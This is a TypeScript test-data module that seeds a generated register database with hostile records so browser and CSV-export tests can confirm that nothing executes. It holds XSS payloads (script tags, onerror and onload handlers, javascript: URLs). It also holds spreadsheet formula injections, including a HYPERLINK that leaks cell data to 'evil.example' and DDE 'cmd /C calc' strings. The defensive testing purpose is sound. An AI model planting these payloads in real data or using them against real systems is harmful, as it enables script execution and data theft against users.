/**
 * Hostile-data mode (HUB_HOSTILE=1): a share of the generated records carry script and markup
 * payloads, the way scraped register data, news feeds and filings sometimes do. Every payload sets
 * `window.__pwned` when it executes, so a browser test can prove that none did. Runs before the
 * search indexes are built, so the payloads are searchable (`pwned`, `onerror`, `HYPERLINK`).
 */
import type { GenerateContext } from './context'

/** Markup a client must show as text; each one sets window.__pwned if it ever runs. */
const HOSTILE_MARKUP = [
  '<img src=x onerror="window.__pwned=1">',
  '<script>window.__pwned=1</script>',
  '"><svg onload=window.__pwned=1>',
  '<a href="javascript:window.__pwned=1">click</a>',
  '<iframe src="javascript:parent.__pwned=1"></iframe>',
] as const

export const HOSTILE_URL = 'javascript:window.__pwned=1'

/** Spreadsheet formulas a CSV export must neutralize (a cell must not start with = + - @). */
const HOSTILE_FORMULAS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Details")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  '@SUM(1+1)',
  "-2+3+cmd|' /C calc'!A0",
] as const

/** Raw HTML appended to the financial reports of hostile organizations (see hostile-report.ts). */
const HOSTILE_REPORT_HTML = `<section class="notes">
<p>Anmerkung <img src=x onerror="window.__pwned=1"> zum Bericht</p>
<script>window.__pwned=1</script>
<p><a href="javascript:window.__pwned=1">Offenlegung ansehen</a></p>
<svg><script>window.__pwned=1</script></svg>
<form action="javascript:window.__pwned=1"><button formaction="javascript:window.__pwned=1">Absenden</button></form>
<iframe srcdoc="&lt;script&gt;parent.__pwned=1&lt;/script&gt;"></iframe>
<div style="background:url(javascript:window.__pwned=1)" onmouseover="window.__pwned=1">Hinweis</div>
</section>`

/** Every n-th organization and person (by generation order) is hostile. */
export const HOSTILE_EVERY = 25

const markup = (index: number) => HOSTILE_MARKUP[index % HOSTILE_MARKUP.length]!

export function applyHostileData(ctx: GenerateContext): void {
  const { db } = ctx
  ctx.progress('hostile data', 0)
  const run = db.transaction(() => {
    db.function('hostile_markup', { deterministic: true }, (index: unknown) =>
      markup(Number(index)),
    )
    db.function(
      'hostile_formula',
      { deterministic: true },
      (index: unknown) => HOSTILE_FORMULAS[Number(index) % HOSTILE_FORMULAS.length]!,
    )
    db.exec(`CREATE TEMP TABLE hostile_orgs AS
      SELECT id, seq, name FROM organizations WHERE seq % ${HOSTILE_EVERY} = 1`)
    db.exec(`CREATE UNIQUE INDEX temp.hostile_orgs_id ON hostile_orgs(id)`)

    // Names keep their original words, so the record is still found by what it is called.
    db.exec(`UPDATE organizations SET
        name = hostile_markup(seq / ${HOSTILE_EVERY}) || ' ' || name,
        other_names = json_array('<script>window.__pwned=1</script> ' || name),
        purpose_de = purpose_de || ' ' || hostile_markup(seq / ${HOSTILE_EVERY} + 1),
        website = '${HOSTILE_URL}'
      WHERE seq % ${HOSTILE_EVERY} = 1`)
    db.exec(`UPDATE persons SET family = family || ' ' || hostile_markup(seq / ${HOSTILE_EVERY})
      WHERE seq % ${HOSTILE_EVERY} = 1`)

    db.exec(`UPDATE news_items SET
        headline = hostile_markup(instr('0123456789abcdef', substr(id, 1, 1))) || ' ' || headline,
        url = '${HOSTILE_URL}'
      WHERE organization_id IN (SELECT id FROM hostile_orgs)`)
    db.exec(`UPDATE register_publications SET
        title = hostile_markup(id) || ' ' || title,
        text = text || ' ' || hostile_markup(id + 1)
      WHERE organization_id IN (SELECT id FROM hostile_orgs)`)
    db.exec(`UPDATE insolvency_notices SET text = text || ' ' || hostile_markup(id)
      WHERE organization_id IN (SELECT id FROM hostile_orgs)`)

    // Dataset cells: the register extract shows the same names, plus spreadsheet formulas.
    db.exec(`UPDATE ds_register_organizations SET
        name = (SELECT o.name FROM organizations o WHERE o.id = ds_register_organizations.organization_id),
        street = hostile_formula(rowid)
      WHERE organization_id IN (SELECT id FROM hostile_orgs)`)
    db.exec(`UPDATE ds_management_appointments SET
        organization_name = (SELECT o.name FROM organizations o WHERE o.id = ds_management_appointments.organization_id)
      WHERE organization_id IN (SELECT id FROM hostile_orgs)`)

    db.exec(`UPDATE ds_management_appointments SET
        family_name = (SELECT p.family FROM persons p WHERE p.id = ds_management_appointments.person_id)
      WHERE person_id IN (SELECT id FROM persons WHERE seq % ${HOSTILE_EVERY} = 1)`)

    db.exec(
      `CREATE TABLE hostile_report_html (organization_id TEXT PRIMARY KEY, html TEXT NOT NULL) WITHOUT ROWID`,
    )
    db.prepare(`INSERT INTO hostile_report_html SELECT id, ? FROM hostile_orgs`).run(
      HOSTILE_REPORT_HTML,
    )
    db.exec('DROP TABLE temp.hostile_orgs')
  })
  run()
  ctx.progress('hostile data', 1)
}
